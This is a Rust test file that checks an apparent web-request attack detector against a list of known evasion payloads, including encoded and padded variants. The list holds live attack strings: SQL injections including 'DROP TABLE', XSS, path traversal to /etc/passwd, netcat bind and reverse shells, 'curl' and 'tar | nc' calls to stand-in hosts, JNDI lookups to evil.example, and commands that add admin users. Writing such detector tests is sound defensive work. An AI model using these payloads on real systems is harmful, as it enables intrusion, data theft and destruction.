//! Attacks that have slipped past other detectors.

use tenancy_security::threat::ThreatKind::{
    CommandInjection, CrossSiteScripting, JndiLookup, PathTraversal, Shellshock, SqlInjection,
    TemplateInjection, XmlEntity,
};
use tenancy_security::threat::{Place, ThreatKind};

use super::refused;

const ATTACKS: &[(ThreatKind, &str)] = &[
    // Reported against libinjection and the Core Rule Set.
    (
        SqlInjection,
        "0); show warnings; set @q=0x73656c656374; prepare s from @q; execute s",
    ),
    (SqlInjection, "SELECT-id-1.FROM`test`"),
    (SqlInjection, "' + 1<@. union select 1,2,3 -- "),
    (SqlInjection, "' + 1<@. union select 1"),
    (SqlInjection, "' + 1<@ union select 1"),
    (SqlInjection, "1<@/**/union select 1"),
    (SqlInjection, "' OR 1=1;'"),
    (SqlInjection, "1)-sleep(9999"),
    (SqlInjection, "1 or true"),
    (SqlInjection, "1.or-id"),
    (SqlInjection, "1 or {`if`(1=1)}"),
    (SqlInjection, "1 or `if`(1)"),
    (SqlInjection, "{`if`(1)}"),
    (SqlInjection, "(select 1)"),
    (SqlInjection, "(select password from users)"),
    (SqlInjection, "1/**/union/*x*/select/**/1,2,3"),
    (SqlInjection, "1/*!50000union*/ /*!50000select*/ 1,2"),
    (SqlInjection, "1+union+select+1,2,3"),
    (SqlInjection, "1\u{a0}or\u{a0}1=1"),
    (SqlInjection, "x' || pg_sleep(5) --"),
    (SqlInjection, "1; waitfor delay '0:0:5'--"),
    (
        SqlInjection,
        "OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb",
    ),
    (SqlInjection, "\u{ff07} or 1=1 -- "),
    (SqlInjection, "1';copy (select '') to program 'id'--"),
    (SqlInjection, "1;pragma table_info(users)"),
    (SqlInjection, "1;vacuum;create function f() returns void"),
    (SqlInjection, "1 procedure analyse()"),
    (SqlInjection, "x' and a=b -- "),
    (SqlInjection, "1 into @a"),
    (SqlInjection, "x' into @a,@b#"),
    (SqlInjection, "select password into @a from users"),
    (SqlInjection, "' = '"),
    (SqlInjection, "1`=`1` AND 5=5 AND `1`=`1"),
    (SqlInjection, "1`) WHERE 3=3;WAITFOR DELAY '0:0:5'--"),
    (SqlInjection, " ORDER BY 7-- "),
    (SqlInjection, "sleep(7)#\n1"),
    (SqlInjection, "1;print 'foo'; exec xp_cmdshell 'dir';"),
    (SqlInjection, "\\''; DROP TABLE users; --"),
    (CrossSiteScripting, "<svg/onload=alert(1)//"),
    (CrossSiteScripting, "'><a onmouseover+=+(prompt)``//"),
    (CrossSiteScripting, "\" onload = alert(1) x=\""),
    (CrossSiteScripting, "<b onclick={alert(1)}>"),
    (CrossSiteScripting, "<img src=x onerror\u{c}=alert(1)>"),
    (CrossSiteScripting, "\"onauxclick=alert`1`"),
    (
        CrossSiteScripting,
        "<a href=\"java\tscript:alert(1)\">x</a>",
    ),
    (
        CrossSiteScripting,
        "<a href=&#106;avascript&colon;alert(1)>x</a>",
    ),
    (
        CrossSiteScripting,
        "<a href=&#00000000000000000000000000000000106;avascript:alert(1)>x</a>",
    ),
    (
        CrossSiteScripting,
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    ),
    (CrossSiteScripting, "';alert.call(null,1)//"),
    (CrossSiteScripting, "document[\"cookie\"]"),
    (CrossSiteScripting, "<scr\0ipt>alert(1)</scr\0ipt>"),
    (PathTraversal, "....//....//etc/passwd"),
    (PathTraversal, "..%uefc8..%uf025a"),
    (PathTraversal, "..0x2fboot"),
    (PathTraversal, "/%25%5c..%25%5c..%25%5cwinnt/desktop.ini"),
    (PathTraversal, "index.php::$DATA"),
    (PathTraversal, "/etc/services"),
    (PathTraversal, "/proc/sched_debug"),
    (PathTraversal, "..%u2215..%u2215a"),
    (PathTraversal, "https://host/../../../a"),
    (PathTraversal, "images/../secret.txt"),
    (CommandInjection, "|| sleep 10 #"),
    (CommandInjection, "\\n/usr/bin/id\\n"),
    (CommandInjection, ";id\\n"),
    (CommandInjection, "cat /etc/hosts"),
    (CommandInjection, "ls -l /var/www/*"),
    (CommandInjection, "nc -lvvp 4444 -e /bin/sh"),
    (CommandInjection, "; net user me secret /ADD"),
    (CommandInjection, "&& net localgroup administrators me /add"),
    (CommandInjection, "; netsh firewall set opmode disable"),
    (
        CommandInjection,
        "reg add \"HKLM\\System\\Terminal Server\" /v deny /d 0 /f",
    ),
    (CommandInjection, "x';exit(md5('a'));//"),
    (CommandInjection, "8.8.8.8;{nc,-e,/bin/sh,192.0.2.1,4444}"),
    (CommandInjection, "a;echo vulnerable > /tmp/p"),
    (CommandInjection, "a;wh$@oami"),
    (CommandInjection, "a;mkfifo /tmp/f"),
    (CommandInjection, "git log; wget -q x.example"),
    (CommandInjection, "cat a | sh"),
    (CommandInjection, "ls;id"),
    (CommandInjection, "git log; id"),
    (CommandInjection, "npm test && who"),
    (CommandInjection, "powershell.exe Get-Process"),
    (CommandInjection, "cmd.exe dir"),
    (CommandInjection, "tar czf - . | nc x 1"),
    (TemplateInjection, "<%= `id` %>"),
    (TemplateInjection, "<%@ page import=\"java.util.*\" %>"),
    (TemplateInjection, "{$smarty.version}"),
    (
        TemplateInjection,
        "@(1+System.Diagnostics.Process.Start(\"cmd\"))",
    ),
    (PathTraversal, "..\\..\\windows\\win.ini"),
    (PathTraversal, "%c0%ae%c0%ae/%c0%ae%c0%ae/secret"),
    (
        PathTraversal,
        "php://filter/convert.base64-encode/resource=index.php",
    ),
    (CommandInjection, "; cat /et'c/pa'ss'wd"),
    (CommandInjection, "|/???/c?t${IFS}x"),
    (CommandInjection, "x;w\\h\\o\\a\\m\\i"),
    (CommandInjection, "a=`id`"),
    (CommandInjection, "$(curl http://evil.example/x)"),
    (CommandInjection, ";ping"),
    (CommandInjection, "x; ping -c 3 evil.example"),
    (TemplateInjection, "{{7*7}}"),
    (TemplateInjection, "{{config}}"),
    (TemplateInjection, " {{ self }} "),
    (PathTraversal, ".git/config"),
    (PathTraversal, "site/.svn/entries"),
    (PathTraversal, "blog/wp-config.php"),
    (
        TemplateInjection,
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ),
    (JndiLookup, "${jndi:ldap://evil.example/a}"),
    (JndiLookup, "${${lower:j}${::-n}di:ldap://evil.example/a}"),
    (Shellshock, "() { :; }; /bin/bash -c id"),
    (
        XmlEntity,
        "<!DOCTYPE x [ <!ENTITY y SYSTEM \"file:///etc/hosts\"> ]><x>&y;</x>",
    ),
    (XmlEntity, "<!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>"),
];

#[test]
fn known_evasions_are_refused() {
    let passed: Vec<_> = ATTACKS
        .iter()
        .filter(|(kind, attack)| match refused(Place::Query, attack) {
            // The file that a command or an entity reads may be what gives it away.
            Some(finding) => {
                !(finding.kind() == *kind || matches!(kind, CommandInjection | XmlEntity))
            }
            None => true,
        })
        .collect();
    assert!(
        passed.is_empty(),
        "passed, or were taken for another attack: {passed:?}"
    );
}

#[test]
fn encoding_an_attack_does_not_hide_it() {
    type Encode = fn(&str) -> String;
    let encodings: [(&str, Encode); 6] = [
        ("URL", url),
        ("URL twice", |attack| url(&url(attack))),
        ("decimal references", |attack| {
            attack
                .chars()
                .map(|letter| format!("&#{};", u32::from(letter)))
                .collect()
        }),
        ("hexadecimal references", |attack| {
            attack
                .chars()
                .map(|letter| format!("&#x{:x}", u32::from(letter)))
                .collect()
        }),
        ("unicode escapes", |attack| {
            attack
                .encode_utf16()
                .map(|unit| format!("\\u{unit:04x}"))
                .collect()
        }),
        ("base64", base64),
    ];
    for attack in [
        "1' or '1'='1",
        "1 union select password from users",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd",
        "; cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
    ] {
        for (name, encode) in encodings {
            let encoded = encode(attack);
            assert!(
                refused(Place::Query, &encoded).is_some(),
                "{attack:?} passed in {name}: {encoded}"
            );
        }
    }
}

#[test]
fn padding_before_an_attack_does_not_hide_it() {
    for attack in [
        " 1 union select 1,2,3 -- ",
        "<script>alert(1)</script>",
        ";cat /etc/passwd",
    ] {
        for kibibytes in [8, 16, 32, 64, 128] {
            let padded = "lorem ipsum ".repeat(kibibytes * 1024 / 12) + attack;
            assert!(
                refused(Place::Query, &padded).is_some(),
                "{attack:?} passed behind {kibibytes} KiB"
            );
        }
    }
}

fn url(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn base64(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut encoded = String::new();
    for group in text.as_bytes().chunks(3) {
        let bits = (0..3).fold(0_usize, |bits, at| {
            bits << 8 | usize::from(group.get(at).copied().unwrap_or(0))
        });
        for at in 0..=group.len() {
            encoded.push(char::from(DIGITS[bits >> (18 - 6 * at) & 63]));
        }
    }
    encoded
}
